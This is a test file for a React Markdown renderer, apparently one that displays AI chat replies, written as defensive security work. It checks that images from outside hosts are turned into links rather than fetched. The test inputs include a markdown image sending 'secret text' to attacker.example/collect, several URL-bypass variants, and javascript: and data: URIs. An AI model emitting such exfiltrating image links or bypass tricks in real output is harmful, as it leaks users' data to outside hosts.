import { render, screen, within } from "@testing-library/react";
import { describe, expect, it } from "vitest";
import Markdown from "./markdown";

const ORIGIN = window.location.origin;

function renderReply(content: string) {
  return render(<Markdown content={content} streaming />).container;
}

/** Every <img> the reply would make the browser fetch. */
const imageSources = (container: HTMLElement) =>
  [...container.querySelectorAll("img")].map((img) => img.getAttribute("src") ?? "");

describe("Markdown images", () => {
  it("turns an image from another host into a link to open it, fetching nothing", () => {
    const container = renderReply(
      "Here: ![the summary](https://attacker.example/collect?q=secret%20text) done",
    );
    expect(container.querySelector("img")).toBeNull();
    const link = screen.getByRole("link", { name: /the summary/ });
    expect(link).toHaveAttribute("href", "https://attacker.example/collect?q=secret%20text");
    expect(link).toHaveAttribute("target", "_blank");
    expect(link.getAttribute("rel")?.split(" ").sort()).toEqual([
      "nofollow",
      "noopener",
      "noreferrer",
    ]);
    expect(link).toHaveTextContent("the summary(attacker.example)");
  });

  it.each([
    "![x](http://attacker.example/a.png)",
    "![x](//attacker.example/a.png)",
    "![x](HTTPS://ATTACKER.example:8443/a.png)",
    "![x](https://localhost:3001/a.png)",
    `![x](${ORIGIN}.attacker.example/a.png)`,
    `![x](${ORIGIN}@attacker.example/a.png)`,
    "![x](https://attacker.example/a.png 'title')",
    "![x][ref]\n\n[ref]: https://attacker.example/a.png",
    "[![x](https://attacker.example/badge.svg)](https://example.com/project)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg/>)",
    "![x](<https://attacker.example/a b.png>)",
    "![](https://attacker.example/a.png)",
  ])("fetches nothing from elsewhere for %s", (content) => {
    expect(imageSources(renderReply(content))).toEqual([]);
  });

  it("shows the host of an image it will not load, and a name when there is no alt", () => {
    renderReply("![](https://cdn.example.net/pic.png)");
    expect(screen.getByRole("link", { name: /Image/ })).toHaveTextContent("Image(cdn.example.net)");
  });

  it("does not put a link in a link: the image is a label of the outer link", () => {
    const container = renderReply(
      "[![build status](https://badges.example/ok.svg)](https://example.com/ci)",
    );
    const links = screen.getAllByRole("link");
    expect(links).toHaveLength(1);
    expect(links[0]).toHaveAttribute("href", "https://example.com/ci");
    expect(within(links[0]!).getByText("build status")).toBeInTheDocument();
    expect(within(links[0]!).getByText("(badges.example)")).toBeInTheDocument();
    expect(container.querySelector("a a")).toBeNull();
  });

  it("leaves non-web schemes as plain text", () => {
    renderReply("![x](javascript:alert(1)) ![y](data:image/png;base64,AAAA)");
    expect(screen.queryByRole("link")).toBeNull();
    expect(screen.getByText("[x]")).toBeInTheDocument();
    expect(screen.getByText("[y]")).toBeInTheDocument();
  });

  it("still shows images from this site", () => {
    const container = renderReply(`![logo](/icon.svg) ![chart](${ORIGIN}/files/chart.png)`);
    expect(imageSources(container)).toEqual([`${ORIGIN}/icon.svg`, `${ORIGIN}/files/chart.png`]);
    expect(screen.getByRole("img", { name: "logo" })).toBeInTheDocument();
  });
});
